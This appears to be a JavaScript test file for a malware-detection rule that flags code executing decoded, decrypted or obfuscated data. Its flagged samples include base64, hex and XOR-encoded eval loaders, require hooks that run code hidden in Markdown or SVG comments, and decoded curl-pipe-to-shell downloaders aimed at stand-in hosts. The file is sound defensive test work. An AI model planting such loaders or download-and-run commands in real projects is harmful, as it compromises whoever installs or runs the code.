import { ruleTest } from '../../testing/rule-tester.js';
import rule from './decoded-code-execution.js';

ruleTest(rule, {
  clean: [
    {
      name: 'a require hook for .txt that wraps the file as a string export (no decoding run)',
      file: 'src/bootstrap/text.js',
      code: `const fs = require('fs');\nrequire.extensions['.txt'] = function (module, filename) {\n  module._compile('module.exports = ' + JSON.stringify(fs.readFileSync(filename, 'utf8')), filename);\n};\n`,
    },
    {
      name: 'a require hook for .ts that compiles transpiled source (ts-node style)',
      file: 'register.js',
      code: `const fs = require('fs');\nconst ts = require('typescript');\nrequire.extensions['.ts'] = function (module, filename) {\n  const out = ts.transpileModule(fs.readFileSync(filename, 'utf8'), {}).outputText;\n  module._compile(Buffer.from(out, 'utf8').toString(), filename);\n};\n`,
    },
    { name: 'gzip-packed fixture inflated and parsed, never run', file: 'test/load.js', code: "const zlib = require('zlib');\nconst data = JSON.parse(zlib.gunzipSync(Buffer.from('H4sIAAAAAAAAA8vNTynNSdVLrSjILyopVrBVqFZItFIwVKgFADPqzzUZAAAA', 'base64')).toString());\nmodule.exports = data;\n" },
    { name: 'AES-encrypted config decrypted from a file and JSON.parsed', file: 'lib/config.js', code: "const crypto = require('crypto');\nconst fs = require('fs');\nconst raw = fs.readFileSync('config.enc');\nconst d = crypto.createDecipheriv('aes-256-cbc', Buffer.from(process.env.KEY, 'hex'), raw.subarray(0, 16));\nmodule.exports = JSON.parse(d.update(raw.subarray(16), undefined, 'utf8') + d.final('utf8'));\n" },
    { name: 'globalThis polyfill', file: 'src/global.js', code: "const g = Function('return this')();\nconst b = atob(token);\n" },
    {
      name: 'hash code full of charCodes and XOR, no eval',
      file: 'src/sha1.js',
      code: 'function rotl(x, n) { return (x << n) | (x >>> (32 - n)); }\nfunction hex(s) { let o = ""; for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ 0x5c); return o; }\n',
    },
    {
      name: 'webpack eval devtool bundle',
      file: 'dist/bundle.js',
      code: 'var __webpack_modules__ = { "./src/a.js": (m) => { eval("m.exports = 1;\\n//# sourceURL=webpack:///./src/a.js"); } };\nconst x = Buffer.from(s, "base64");\n',
    },
    {
      name: 'ejs/handlebars compile (template source is not decoded)',
      file: 'lib/ejs.js',
      code: "const src = 'var __output = \"\";' + this.source;\nconst fn = new Function(opts.localsName + ', escapeFn, include, rethrow', src);\nconst safe = unescape(html);\n",
    },
    {
      name: 'test suite builds control characters with fromCharCode and compiles transformed code',
      file: 'scripts/js-api-tests.js',
      code: "let chars = '';\nfor (let i = 0; i < 32; i++) chars += String.fromCharCode(i);\nconst input = `return \\`${chars}\\``;\nconst { code } = await esbuild.transform(input);\nconst fn = new Function(code);\n",
    },
    {
      // Scope-blind flow sent the top-level `e` helper's decodeURIComponent literal into t_'s import(); the `e` called
      // inside load() is path.join.
      name: 'minified server runtime: URI-decoded route params and a module loader reuse the name e (Next.js)',
      file: 'dist/compiled/next-server/app-route.runtime.prod.js',
      code: 'function K(e){try{return decodeURIComponent(e)}catch{return e}}K("%2Fapi%2Fitems%2Findex");function e(t){return decodeURIComponent(t)}e("%2Fapp%2Fpage.js");let t_=e=>import(e).then(e=>e.default||e);class R{async load(l){let{join:e}=require("node:path");return t_(e(this.distDir,l))}}\n',
    },
    {
      name: 'template engine compiles a URI-decoded .html view read from disk (a template, not a data file)',
      file: 'lib/view.js',
      code: "const fs = require('fs');\nconst src = decodeURIComponent(fs.readFileSync('views/page.html', 'utf8'));\nmodule.exports = new Function('data', src);\n",
    },
    {
      name: 'an SVG read and base64-encoded into a data URL (nothing executed)',
      file: 'lib/icon.js',
      code: "const fs = require('fs');\nconst uri = 'data:image/svg+xml;base64,' + Buffer.from(fs.readFileSync('logo.svg')).toString('base64');\nsetTimeout(() => console.log(uri), 1);\n",
    },
  ],
  flagged: [
    {
      name: 'a require hook for .md compiles base64 hidden in each file (front-matter comment)',
      file: 'src/bootstrap/markdown.js',
      code: `const fs = require('fs');\nconst FRONT = /^<!--\\s*([A-Za-z0-9+/=\\s]+?)\\s*-->/;\nrequire.extensions['.md'] = function compileMarkdown(module, filename) {\n  const raw = fs.readFileSync(filename, 'utf8');\n  const m = raw.match(FRONT);\n  if (m) module._compile(Buffer.from(m[1], 'base64').toString('utf8'), filename);\n};\n`,
      findings: [{ line: 6, severity: 'critical', confidence: 'high', message: /data read from a non-code file/ }],
    },
    {
      name: 'deflated base64 literal inflated and evaled: the code is unpacked and shown',
      file: 'index.js',
      code: "const zlib = require('zlib');\neval(zlib.inflateSync(Buffer.from('eJwrSi0szSxK1VBPzsjMSYkvKMpPTi0uVtfUS61ITdZQTy4tylHQLVbIKCkpsNLXr9BLrUjMLchJ1a9SqFEozlDXBADtgBYx', 'base64')).toString());\n",
      findings: [{ line: 2, severity: 'critical', confidence: 'high', decoded: "require('child_process').exec('curl -s http://x.example/z | sh')" }],
    },
    {
      name: 'ciphertext and key in the file, decrypted and evaled',
      file: 'lib/license.js',
      code: "const crypto = require('crypto');\nconst d = crypto.createDecipheriv('aes-256-cbc', Buffer.from('07'.repeat(32), 'hex'), Buffer.from('03'.repeat(16), 'hex'));\nconst code = d.update('9f1c2b7d4e5a6b8c9d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e', 'hex', 'utf8') + d.final('utf8');\neval(code);\n",
      findings: [{ line: 4, severity: 'critical', confidence: 'high', message: /encrypted in the file, with its key beside it/ }],
    },
    {
      name: 'eval of atob literal',
      file: 'src/index.js',
      code: "eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik='));\n",
      findings: [{ line: 1, severity: 'high', confidence: 'high', decoded: 'require("child_process").exec("id")' }],
    },
    {
      name: 'Buffer hex through a variable into new Function',
      file: 'src/a.js',
      code: "const p = Buffer.from('72657175697265282268747470732229', 'hex').toString();\nconst run = new Function('require', p);\nrun(require);\n",
      findings: [{ line: 2, decoded: 'require("https")' }],
    },
    {
      name: 'charCode array, (0, eval) and XOR helper',
      file: 'src/b.js',
      code: [
        'function dx(d, k) { let r = ""; for (let i = 0; i < d.length; i++) r += String.fromCharCode(d[i] ^ k); return r; }',
        '(0, eval)(dx([56, 47, 59, 63, 35, 56, 47], 74));',
        'eval(String.fromCharCode(102, 40, 41));',
      ].join('\n'),
      findings: [{ line: 2, decoded: 'require' }, { line: 3, decoded: 'f()', severity: 'medium' }],
    },
    {
      name: 'import() of a decoded data: URL',
      file: 'src/loader.mjs',
      code: "const u = 'data:text/javascript;base64,' + 'Y29uc29sZS5sb2coMSk=';\nawait import(decodeURIComponent(u));\nawait import(atob('ZGF0YTp0ZXh0L2phdmFzY3JpcHQsaW1wb3J0KCdjaGlsZF9wcm9jZXNzJyk='));\n",
      findings: [{ line: 2 }, { line: 3 }],
    },
    {
      name: 'import() of a module path hidden behind URI escapes (medium: the path is shown, nothing dangerous in it)',
      file: 'src/boot.js',
      code: 'const p = decodeURIComponent("%2E%2Flib%2Fupdate.js");\nawait import(p);\n',
      findings: [{ line: 2, severity: 'medium', decoded: './lib/update.js' }],
    },
    {
      name: 'decoded env value, unknown content',
      file: 'config/init.js',
      code: "const c = Buffer.from(process.env.PAYLOAD, 'base64').toString('utf8');\nrequire('vm').runInThisContext(c);\n",
      findings: [{ line: 2, confidence: 'high', message: /from process\.env\.PAYLOAD \(content not statically known\)/ }],
    },
    {
      name: 'base64 chunks from SVG comments reassembled and evaled (path through a variable)',
      file: 'server.js',
      code: [
        "const fs = require('fs');",
        "const path = require('path');",
        "const p = path.join('public', 'logo.svg');",
        "const svg = fs.readFileSync(p, 'utf8');",
        'const parts = [...svg.matchAll(/<!-- (.*?) -->/g)].map((m) => m[1]);',
        "eval(Buffer.from(parts.join(''), 'base64').toString());",
      ].join('\n'),
      findings: [{ line: 6, severity: 'critical', confidence: 'high', message: /executes data read from a non-code file/ }],
    },
    {
      name: 'hex-decoded code that is itself a downloader (curl | sh): critical',
      file: 'index.js',
      code: "const cfg = '7265717569726528276368696c645f70726f6365737327292e6578656328276375726c202d732068747470733a2f2f63646e2e6578616d706c652e696e76616c69642f79207c2073682729';\nFunction(Buffer.from(cfg, 'hex').toString())();\n",
      findings: [{ line: 2, severity: 'critical', confidence: 'high', decoded: "require('child_process').exec('curl -s https://cdn.example.invalid/y | sh')" }],
    },
    {
      name: 'hex-decoded code with Node capabilities but no download: high',
      file: 'index.js',
      code: "const cfg = '726571756972652827667327292e7265616446696c6553796e6328272f6574632f686f73746e616d65272c2027757466382729';\nFunction(Buffer.from(cfg, 'hex').toString())();\n",
      findings: [{ line: 2, severity: 'high', confidence: 'high' }],
    },
  ],
});
